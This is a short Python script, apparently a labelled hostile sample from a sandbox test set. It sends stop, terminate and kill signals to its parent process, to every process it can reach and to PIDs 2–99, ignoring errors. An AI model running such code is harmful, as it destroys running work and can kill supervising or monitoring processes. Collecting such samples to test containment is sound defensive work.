# reason: signals; score: 20
# Sends signals to its parent, to its group and to every process that it can reach.
# cell: set-up; work: right
import contextlib
import os
import signal

for pid in (os.getppid(), -1, *range(2, 100)):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        with contextlib.suppress(OSError):
            os.kill(pid, number)
